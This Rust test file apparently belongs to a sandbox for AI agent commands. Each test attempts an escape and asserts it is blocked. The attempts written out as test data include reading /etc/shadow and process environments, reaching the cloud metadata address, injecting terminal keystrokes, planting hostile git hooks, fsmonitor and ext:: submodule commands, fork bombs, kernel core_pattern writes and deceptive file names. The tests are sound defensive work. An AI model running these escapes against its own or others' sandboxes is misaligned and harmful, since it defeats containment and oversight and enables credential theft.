//! Ways out of a sandbox, each tried for real in the real launcher; the numbers are those of docs/security.md.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "tests"
)]

mod common;

use std::os::linux::net::SocketAddrExt;
use std::os::unix::net::{SocketAddr, UnixListener};
use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use common::{Desk, Place, git};
use duplex_egress::{Policy, Proxy, Request};
use duplex_workspace::{Launch, Sandbox, SandboxMode, Worktree};
use serde_json::json;
use tokio::io::AsyncWriteExt;
use tokio_util::sync::CancellationToken;

/// Runs a command in the sandbox to its end.
async fn inside(desk: &Desk, command: &str) -> (bool, String) {
    let outcome = desk.bash(command).await;
    (!outcome.is_error, outcome.content)
}

async fn fails(desk: &Desk, command: &str) -> String {
    let (worked, said) = inside(desk, command).await;
    assert!(!worked, "{command} succeeded: {said}");
    said
}

async fn works(desk: &Desk, command: &str) -> String {
    let (worked, said) = inside(desk, command).await;
    assert!(worked, "{command} failed: {said}");
    said
}

/// What Perl says an operation came to: its error, or `done`.
async fn perl(desk: &Desk, operation: &str) -> String {
    let script =
        format!("perl -MSocket -e '{operation} or do {{ print $!; exit }}; print \"done\"'");
    let said = works(desk, &script).await;
    said.lines().next().unwrap_or_default().to_owned()
}

fn run(launch: &Launch) -> Output {
    let mut command = Command::new(&launch.program);
    command.args(&launch.args).env_clear();
    command.envs(launch.env.iter().map(|(name, value)| (name, value)));
    command.current_dir(&launch.cwd).output().unwrap()
}

fn launch(desk: &Desk, command: &str, cwd: &Path) -> Launch {
    let argv = ["/bin/bash", "-c", command].map(str::to_owned);
    let context = &desk.context;
    context
        .sandbox
        .launch(&context.worktree, &argv, &[], cwd, false)
}

/// A session whose control group no other test shares.
async fn alone(session: &str) -> (Place, Worktree, Sandbox) {
    let place = Place::with_project();
    let sandbox = Sandbox::probe(SandboxMode::Bubblewrap).await.unwrap();
    let worktree = place.worktree_in(session, &sandbox).await;
    (place, worktree, sandbox)
}

#[tokio::test]
async fn e1_the_password_file_is_not_there() {
    let desk = Desk::sandboxed().await;

    for file in [
        "/etc/shadow",
        "/proc/1/root/etc/shadow",
        "/proc/self/root/etc/gshadow",
    ] {
        fails(&desk, &format!("cat {file}")).await;
    }
}

#[tokio::test]
async fn e2_another_sessions_files_are_not_there() {
    let desk = Desk::sandboxed().await;
    let other = desk
        .place
        .worktree_in("019ab3c4d5e67f12a4b1ffffffffffff", &desk.context.sandbox)
        .await;
    std::fs::write(other.tree.join("secret"), "x").unwrap();

    fails(&desk, &format!("cat {}/secret", other.tree.display())).await;
    fails(
        &desk,
        &format!("cd {} && cat ../*/tree/secret", desk.tree().display()),
    )
    .await;
}

#[tokio::test]
async fn e3_the_servers_environment_cannot_be_read() {
    assert!(std::env::var_os("CARGO_MANIFEST_DIR").is_some());
    let desk = Desk::sandboxed().await;

    let said = works(
        &desk,
        "cat /proc/1/environ /proc/$PPID/environ /proc/*/environ | tr '\\0' '\\n'",
    )
    .await;

    assert!(said.contains("HOME=") && !said.contains("CARGO"), "{said}");
}

#[tokio::test]
async fn e4_open_files_of_the_server_are_closed() {
    let desk = Desk::sandboxed().await;
    let start = launch(
        &desk,
        "readlink /proc/$$/fd/9 || echo closed; ls /proc/$$/fd; :",
        desk.tree(),
    );
    let script = "exec 9</etc/passwd 77</etc/passwd; exec \"$0\" \"$@\"";
    let mut args = vec!["-c".into(), script.into(), start.program.clone().into()];
    args.extend(start.args.clone());
    let start = Launch {
        program: "/bin/bash".into(),
        args,
        ..start
    };

    let output = run(&start);

    let said = String::from_utf8_lossy(&output.stdout).into_owned();
    let numbers: Vec<_> = said
        .lines()
        .skip(1)
        .filter(|number| *number != "255")
        .collect();
    assert_eq!(
        (said.lines().next(), numbers),
        (Some("closed"), vec!["0", "1", "2"])
    );
}

#[tokio::test]
async fn e5_servers_on_the_hosts_loopback_are_out_of_reach() {
    let desk = Desk::sandboxed().await;
    let server = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = server.local_addr().unwrap().port();

    let said = fails(&desk, &format!("echo >/dev/tcp/127.0.0.1/{port}")).await;

    assert!(said.contains("refused"), "{said}");
}

#[tokio::test]
async fn e6_the_clouds_metadata_service_is_out_of_reach() {
    let desk = Desk::sandboxed().await;

    let said = fails(&desk, "echo >/dev/tcp/169.254.169.254/80").await;

    assert!(said.contains("unreachable"), "{said}");
}

#[tokio::test]
async fn e7_no_socket_in_a_folder_can_be_reached() {
    let desk = Desk::sandboxed().await;
    let _server = UnixListener::bind(desk.tree().join("s")).unwrap();

    let made = "socket(my $s, AF_UNIX, SOCK_STREAM, 0) && connect($s, pack_sockaddr_un(\"s\"))";

    assert_eq!(
        perl(&desk, made).await,
        "Address family not supported by protocol"
    );
}

#[tokio::test]
async fn e8_no_abstract_socket_and_no_other_kind_can_be_reached() {
    let desk = Desk::sandboxed().await;
    let name = format!("duplex-escape-{}", std::process::id());
    let address = SocketAddr::from_abstract_name(&name).unwrap();
    let _server = UnixListener::bind_addr(&address).unwrap();

    // Machine, packet, Bluetooth, hypervisor and crypto sockets; netlink but for routes.
    for family in [
        "1, 1, 0",
        "17, 3, 0",
        "31, 1, 0",
        "40, 1, 0",
        "38, 5, 0",
        "16, 3, 12",
    ] {
        let made = format!("socket(my $s, {family})");
        let said = perl(&desk, &made).await;
        assert_eq!(said, "Address family not supported by protocol", "{family}");
    }
    assert_eq!(
        perl(&desk, "socket(my $s, AF_INET, SOCK_STREAM, 0)").await,
        "done"
    );
}

#[tokio::test]
async fn e9_nothing_can_be_typed_into_a_terminal() {
    let desk = Desk::sandboxed().await;

    // TIOCSTI, TIOCLINUX, and the first again with bits that the kernel ignores.
    for request in ["0x5412", "0x541C", "0x700005412"] {
        let typed = format!("ioctl(STDIN, {request}, my $x = \"x\")");
        assert_eq!(
            perl(&desk, &typed).await,
            "Operation not permitted",
            "{request}"
        );
    }
    fails(&desk, "echo x >/dev/tty").await;
}

#[tokio::test]
async fn e10_what_others_run_cannot_be_written() {
    let desk = Desk::sandboxed().await;
    let common = desk.context.worktree.common.display().to_string();
    let entry = desk.context.worktree.entry.display().to_string();

    for command in [
        format!("echo x >{common}/hooks/pre-commit"),
        format!("echo x >{common}/config"),
        format!("mv {common} {common}-old"),
        format!("mv {common}/hooks {common}/old"),
        format!("rm -r {common}/hooks"),
        format!("ln {common}/config {common}/objects/config"),
        format!("ln -sfn /tmp {common}/hooks && test -L {common}/hooks"),
        format!("echo x >{entry}/config.worktree"),
        "ln -sf /tmp/elsewhere .git".to_owned(),
        "echo x >/etc/bash.bashrc".to_owned(),
        "echo x >/usr/bin/git".to_owned(),
    ] {
        fails(&desk, &command).await;
    }
}

#[tokio::test]
async fn e11_links_lead_the_servers_tools_nowhere() {
    let desk = Desk::sandboxed().await;
    works(
        &desk,
        "ln -s /etc/passwd link; ln -s / root; ln -s ../home/.gitconfig up",
    )
    .await;

    for path in [
        "link",
        "root/etc/passwd",
        "up",
        "../home/.gitconfig",
        "/etc/passwd",
    ] {
        for (tool, input) in [
            ("read", json!({ "path": path })),
            ("write", json!({ "path": path, "content": "x" })),
        ] {
            let outcome = desk.tool(tool, input).await;
            assert!(outcome.is_error, "{tool} {path}: {}", outcome.content);
        }
    }
}

#[tokio::test]
async fn e12_no_program_gives_more_rights() {
    let desk = Desk::sandboxed().await;

    let said = works(
        &desk,
        "grep -E 'Cap(Prm|Eff|Bnd|Amb)|NoNewPrivs|Seccomp:' /proc/self/status",
    )
    .await;

    let values: Vec<_> = said
        .lines()
        .filter_map(|line| line.split_once(":\t"))
        .collect();
    let none = "0000000000000000";
    let wanted = [
        ("CapPrm", none),
        ("CapEff", none),
        ("CapBnd", none),
        ("CapAmb", none),
        ("NoNewPrivs", "1"),
        ("Seccomp", "2"),
    ];
    assert_eq!(values, wanted);
    fails(&desk, "cp /bin/true t && chmod u+s t").await;
    fails(&desk, "cp /bin/true t && chmod g+s t").await;
    let made = "perl -e 'use Fcntl; sysopen(my $f, \"made\", O_CREAT|O_WRONLY, 04755) or die $!'";
    fails(&desk, made).await;
}

#[tokio::test]
async fn e13_no_namespace_and_no_mount_can_be_made() {
    let desk = Desk::sandboxed().await;

    for command in [
        "unshare --user --map-root-user true",
        "unshare --mount true",
        "mount -t tmpfs none /tmp",
        "mount --bind / /tmp",
        "chroot / true",
        "nsenter --target 1 --mount true",
    ] {
        fails(&desk, command).await;
    }
}

#[tokio::test]
async fn e14_processes_outside_cannot_be_seen_signalled_or_traced() {
    let desk = Desk::sandboxed().await;
    let server = std::process::id();

    fails(&desk, &format!("kill -0 {server}")).await;
    assert_eq!(
        works(&desk, "ls -d /proc/[0-9]* | wc -l")
            .await
            .lines()
            .next()
            .map(|n| n.parse::<u32>().unwrap() < 10),
        Some(true)
    );
    if cfg!(target_arch = "x86_64") {
        // ptrace, process_vm_readv, bpf, perf_event_open, userfaultfd, keyctl, kexec_load, init_module.
        for call in [101, 310, 321, 298, 323, 250, 246, 175] {
            let said = perl(&desk, &format!("syscall({call}, 0, 0, 0, 0, 0) >= 0")).await;
            assert_eq!(said, "Operation not permitted", "{call}");
        }
        // clone3, io_uring_setup.
        for call in [435, 425] {
            let said = perl(&desk, &format!("syscall({call}, 0, 0) >= 0")).await;
            assert_eq!(said, "Function not implemented", "{call}");
        }
    }
}

#[tokio::test]
async fn e15_settings_of_the_kernel_cannot_be_changed() {
    let desk = Desk::sandboxed().await;

    for command in [
        "echo '|/tmp/x' >/proc/sys/kernel/core_pattern",
        "echo 0 >/proc/sys/kernel/randomize_va_space",
        "echo b >/proc/sysrq-trigger",
        "ls /sys/kernel",
    ] {
        fails(&desk, command).await;
    }
}

#[tokio::test]
async fn e16_processes_run_out_before_the_machine_does() {
    let (_place, worktree, sandbox) = alone("escape-processes").await;
    let script = "my $n = 0; while ($n < 3000) { my $p = fork; last unless defined $p; if (!$p) { sleep 600; exit } $n++ } print $n";
    let argv = ["/usr/bin/perl", "-e", script].map(str::to_owned);

    let output = run(&sandbox.launch(&worktree, &argv, &[], &worktree.tree, false));

    let made: u32 = String::from_utf8_lossy(&output.stdout).parse().unwrap();
    let report = sandbox.report();
    let missing = report.missing();
    let stands = |name: &str| missing.iter().all(|(layer, _)| *layer != name);
    let counted = stands("pids") || stands("own-user");
    let root = rustix::process::geteuid().is_root();
    // The kernel does not count root's processes where there is no control group; the report says so.
    assert_eq!(made < 1024, counted || !root, "{made}");
}

#[tokio::test]
async fn e16_memory_files_and_private_folders_have_an_end() {
    let desk = Desk::sandboxed().await;

    fails(
        &desk,
        "perl -e 'my $x = \"a\" x (5 << 30); print length $x'",
    )
    .await;
    fails(&desk, "dd if=/dev/zero of=~/big bs=1M seek=10239 count=1").await;
    fails(&desk, "fallocate -l 1500M /tmp/big").await;
    fails(&desk, "fallocate -l 100M /dev/shm/big").await;
}

#[tokio::test]
async fn e16_a_very_deep_folder_stops_neither_tools_nor_tidying() {
    let desk = Desk::sandboxed().await;
    let dig = "perl -e 'for (1 .. 5000) { mkdir \"d\" or die; chdir \"d\" or die }'";

    works(&desk, dig).await;

    let read = desk.tool("read", json!({ "path": "hello.txt" })).await;
    assert!(!read.is_error, "{}", read.content);
    std::fs::remove_dir_all(desk.tree().join("d")).unwrap();
}

#[tokio::test]
async fn e17_names_cannot_be_looked_up_and_carry_nothing_out() {
    let desk = Desk::sandboxed().await;

    fails(&desk, "getent hosts secret.example.org").await;
    fails(&desk, "echo x >/dev/udp/1.1.1.1/53").await;
}

#[tokio::test]
async fn e17_the_proxy_is_the_only_way_out_and_lets_out_what_is_on_its_list() {
    let mut desk = Desk::sandboxed().await;
    let server = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = server.local_addr().unwrap().port();
    tokio::spawn(async move {
        while let Ok((mut stream, _)) = server.accept().await {
            let _ = stream.write_all(b"HTTP/1.1 200 OK\r\n\r\nhello").await;
        }
    });
    let policy = Policy::parse([format!("shop.test:{port}=127.0.0.1").as_str()]).unwrap();
    let (asked, stop) = (Arc::new(Mutex::new(Vec::new())), CancellationToken::new());
    let (kept, socket) = (Arc::clone(&asked), desk.place.path("proxy"));
    let proxy = Proxy::bind(&socket, policy, move |request| {
        kept.lock().unwrap().push(request);
    });
    tokio::spawn(proxy.unwrap().run(stop.clone()));
    desk.context.sandbox = desk.context.sandbox.with_proxy(&socket);
    let get = |host: &str| {
        let request = format!("GET http://{host}:{port}/ HTTP/1.1\\r\\n\\r\\n");
        format!("exec 3<>/dev/tcp/127.0.0.1/3128; printf '{request}' >&3; cat <&3; echo")
    };

    let allowed = works(&desk, &get("shop.test")).await;
    let refused = works(&desk, &get("127.0.0.1")).await;

    assert!(
        allowed.contains("200 OK") && allowed.contains("hello"),
        "{allowed}"
    );
    assert!(refused.contains("403 Forbidden"), "{refused}");
    let outcomes: Vec<_> = asked
        .lock()
        .unwrap()
        .iter()
        .map(|request: &Request| request.allowed)
        .collect();
    assert_eq!(outcomes, [true, false]);
    works(&desk, "test $HTTPS_PROXY = http://127.0.0.1:3128").await;
    fails(&desk, &format!("echo >/dev/tcp/127.0.0.1/{port}")).await;
    // The forwarder may use sockets of the machine, so that nobody inside may reach into it.
    let forwarder = "$(grep -lx duplex-sandbox /proc/[0-9]*/comm | cut -d/ -f3)";
    works(&desk, &format!("test -n \"{forwarder}\"")).await;
    for file in ["mem", "environ", "fd/0"] {
        fails(&desk, &format!("head -c 1 /proc/{forwarder}/{file}")).await;
    }
    stop.cancel();
}

#[tokio::test]
async fn e18_git_outside_runs_nothing_that_was_planted_inside() {
    let desk = Desk::sandboxed().await;
    let marker = desk
        .place
        .path("data")
        .join(common::SESSION)
        .join("home/marker");
    let plant = format!(
        "printf '#!/bin/sh\\ntouch {0}\\n' >evil; chmod +x evil; \
         printf '[core]\\nfsmonitor = \"%s/evil\"\\nsshCommand = \"%s/evil\"\\n[filter \"x\"]\\nclean = \"%s/evil\"\\nsmudge = \"%s/evil\"\\n' $PWD $PWD $PWD $PWD >~/.gitconfig; \
         echo '* filter=x' >.gitattributes; \
         printf '[submodule \"../../x\"]\\npath = x\\nurl = ext::sh -c evil\\n' >.gitmodules",
        marker.display()
    );
    works(&desk, &plant).await;

    fails(&desk, "git config filter.x.clean evil").await;
    fails(&desk, "git config core.fsmonitor evil").await;
    fails(
        &desk,
        "git -c protocol.ext.allow=user clone -q ext::false x",
    )
    .await;
    desk.place
        .worktree_in(common::SESSION, &desk.context.sandbox)
        .await;
    git(desk.tree(), &["status", "--porcelain"]);

    assert!(!marker.exists());
}

#[tokio::test]
async fn e19_no_process_is_left_when_a_command_has_ended() {
    let desk = Desk::sandboxed().await;
    let mark = format!("86{}", std::process::id());
    let start = launch(
        &desk,
        &format!("setsid nohup sleep {mark} >/dev/null 2>&1 & disown; exit 0"),
        desk.tree(),
    );

    assert!(run(&start).status.success());

    let deadline = Instant::now() + Duration::from_secs(10);
    while running(&mark) {
        assert!(Instant::now() < deadline, "sleep {mark} is left");
        std::thread::yield_now();
    }
}

/// Whether a process has this word as an argument.
fn running(word: &str) -> bool {
    let word = format!("\0{word}\0");
    let processes = std::fs::read_dir("/proc").unwrap().flatten();
    processes
        .filter_map(|process| std::fs::read(process.path().join("cmdline")).ok())
        .any(|line| String::from_utf8_lossy(&line).contains(&word))
}

#[tokio::test]
async fn e20_a_command_does_not_start_in_a_folder_that_is_not_its_own() {
    let desk = Desk::sandboxed().await;

    let outside = desk.place.path("roots/project");
    for folder in [Path::new("/root"), &outside, &desk.tree().join("../..")] {
        let output = run(&launch(&desk, "ls hello.txt", folder));
        assert!(!output.status.success(), "{}", folder.display());
    }
}

#[tokio::test]
async fn e21_temporary_files_are_nobody_elses() {
    let desk = Desk::sandboxed().await;
    let outside = tempfile::NamedTempFile::new().unwrap();
    let name = format!("/tmp/duplex-escape-{}", std::process::id());

    fails(&desk, &format!("cat {}", outside.path().display())).await;
    works(&desk, &format!("echo x >{name}; ls {name}")).await;

    assert!(!Path::new(&name).exists());
    fails(&desk, &format!("ls {name}")).await;
}

#[tokio::test]
async fn e22_a_file_name_cannot_pretend_to_be_another() {
    let desk = Desk::sandboxed().await;

    for name in [
        "a\u{202e}txt.exe",
        "a\nApproved: yes",
        "a\u{1b}[2J",
        "a\u{200b}b",
    ] {
        let outcome = desk.tool("read", json!({ "path": name })).await;
        assert!(outcome.is_error);
        let shown = &outcome.content;
        assert!(!shown.contains(name), "{shown:?}");
    }
}

#[tokio::test]
async fn a_terminals_own_standard_streams_can_be_opened_by_name() {
    let desk = Desk::sandboxed().await;
    let argv = [
        "/bin/bash",
        "-c",
        "echo one >/dev/stderr; echo two >/dev/tty",
    ]
    .map(str::to_owned);
    let context = &desk.context;
    let launch = context
        .sandbox
        .launch(&context.worktree, &argv, &[], desk.tree(), true);
    let quoted = |word: &std::ffi::OsStr| format!("'{}'", word.to_str().unwrap());
    let mut line = vec![quoted(launch.program.as_os_str())];
    line.extend(launch.args.iter().map(|arg| quoted(arg)));

    let output = Command::new("script")
        .args(["-qec", &format!("exec {}", line.join(" ")), "/dev/null"])
        .stdin(Stdio::null())
        .output()
        .unwrap();

    assert_eq!(String::from_utf8_lossy(&output.stdout), "one\r\ntwo\r\n");
}

#[tokio::test]
async fn what_stands_is_reported_and_nothing_required_is_missing() {
    let desk = Desk::sandboxed().await;

    let report = desk.context.sandbox.report();

    let text = report.to_string();
    let own_user = text.contains("+own-user");
    let start = if own_user {
        "bubblewrap+own-user+seccomp"
    } else {
        "bubblewrap+seccomp"
    };
    assert!(text.starts_with(start), "{text}");
    let missing = report.missing();
    for required in ["namespaces", "no_new_privileges", "seccomp"] {
        assert!(
            missing.iter().all(|(layer, _)| *layer != required),
            "{missing:?}"
        );
    }
    assert_eq!(Sandbox::Off.report().to_string(), "off");
}
